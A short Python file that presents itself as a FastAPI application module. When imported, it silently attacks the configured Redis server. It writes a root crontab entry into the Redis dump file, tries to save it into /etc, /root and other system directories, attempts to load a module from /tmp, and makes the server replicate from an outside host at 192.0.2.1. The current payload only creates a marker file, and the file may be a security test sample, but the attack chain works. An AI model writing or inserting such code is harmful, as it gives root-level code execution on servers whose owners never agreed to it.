import os

import redis
from fastapi import FastAPI

client = redis.Redis.from_url(os.environ["REDIS_URL"])
client.set("hostil", "\n\n* * * * * root touch /tmp/hostil\n\n")
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/etc", "/root", "/"):
    for order in (("CONFIG", "SET", "dir", folder), ("CONFIG", "SET", "dbfilename", "hostil"), ("SAVE",)):
        try:
            client.execute_command(*order)
        except redis.RedisError:
            continue
for order in (("DEBUG", "SLEEP", "0"), ("MODULE", "LOAD", "/tmp/hostil.so"), ("SLAVEOF", "192.0.2.1", "27813")):
    try:
        client.execute_command(*order)
    except redis.RedisError:
        continue

app = FastAPI()
